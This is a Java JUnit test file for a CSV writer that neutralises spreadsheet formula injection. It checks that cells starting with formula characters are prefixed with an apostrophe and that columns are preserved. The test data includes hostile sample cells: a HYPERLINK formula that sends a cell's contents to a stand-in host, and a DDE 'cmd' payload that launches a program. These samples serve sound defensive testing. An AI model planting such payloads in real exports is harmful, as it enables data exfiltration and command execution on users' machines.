package org.briefing.outputs;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * A cell a spreadsheet would run as a formula opens as text: read back with Jackson's CSV reader
 * (an RFC 4180 parser that is not ours), it is the text with one apostrophe before it, and the row
 * keeps its columns.
 */
class CsvRowTest {

  /** Reads CSV text back into rows of cells, as a spreadsheet program imports it. */
  static List<List<String>> parse(String csv) throws IOException {
    CsvMapper mapper = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
    List<List<String>> rows = new ArrayList<>();
    try (MappingIterator<String[]> it = mapper.readerFor(String[].class).readValues(csv)) {
      while (it.hasNext()) {
        rows.add(List.of(it.next()));
      }
    }
    return rows;
  }

  private static List<String> roundTrip(List<String> fields) throws IOException {
    StringBuilder out = new StringBuilder();
    CsvRow.append(out, fields);
    List<List<String>> rows = parse(out.toString());
    assertEquals(1, rows.size(), out::toString);
    return rows.get(0);
  }

  @ParameterizedTest(name = "a cell beginning with U+{0}")
  @ValueSource(
      strings = {"003D", "002B", "002D", "0040", "0009", "000D", "FF1D", "FF0B", "FF0D", "FF20"})
  void aCellBeginningWithAFormulaCharacterOpensAsText(String hex) throws IOException {
    String lead = String.valueOf((char) Integer.parseInt(hex, 16));
    for (String rest :
        List.of(
            "HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
            "cmd|' /C calc'!A0",
            "1+1",
            "SUM(1,2)")) {
      String cell = lead + rest;
      List<String> row = roundTrip(List.of("id-1", cell, "after"));
      assertEquals(List.of("id-1", "'" + cell, "after"), row);
    }
  }

  @Test
  void aFormulaBehindSpacesOrInvisibleCharactersIsNeutralisedToo() throws IOException {
    for (String cell : List.of(" =1+1", "\n=1+1", "\u00A0@SUM(1)", "\u200B=1+1", "  -2+3")) {
      assertEquals(List.of("'" + cell), roundTrip(List.of(cell)), cell);
    }
  }

  @Test
  void ordinaryTextIsWrittenAsItIs() throws IOException {
    List<String> cells =
        List.of(
            "2025-06-03",
            "Qatar and Syria sign",
            "اتفاق الدفاع المدني",
            "a, b",
            "say \"no\"",
            "two\nlines",
            "",
            "1+1=2",
            "e-mail: a@b.example",
            "'quoted'");
    assertEquals(cells, roundTrip(cells));
    StringBuilder plain = new StringBuilder();
    CsvRow.append(plain, List.of("2025-06-03", "Qatar and Syria sign", "1+1=2"));
    assertEquals("2025-06-03,Qatar and Syria sign,1+1=2\r\n", plain.toString());
  }

  @Test
  void noCellOfTheLineBeginsAsAFormulaAfterParsing() throws IOException {
    List<String> hostile = List.of("=1", "+1", "-1", "@1", "\t=1", "\r=1", "ok", "=\"a,b\"");
    List<String> row = roundTrip(hostile);
    assertEquals(hostile.size(), row.size());
    for (String cell : row) {
      assertFalse("=+-@\t\r".indexOf(cell.charAt(0)) >= 0, cell);
    }
  }

  @Test
  void aCellBeginningWithACommaQuoteOrLineBreakKeepsItsColumn() throws IOException {
    List<String> cells = List.of(",after", "\"quoted\" first", "\nsecond line", "\rx", "end");
    assertEquals(cells.subList(0, 3), roundTrip(cells.subList(0, 3)));
    StringBuilder out = new StringBuilder();
    CsvRow.append(out, List.of(",a", "\"b", "\nc", "\rd"));
    assertEquals("\",a\",\"\"\"b\",\"\nc\",\"'\rd\"\r\n", out.toString());
  }

  @Test
  void aCellOfSpacesOnlyIsWrittenAsItIs() throws IOException {
    assertEquals(List.of("a", "   ", "b"), roundTrip(List.of("a", "   ", "b")));
    assertFalse(CsvRow.looksLikeFormula("\u00A0 \u200B"));
  }
}
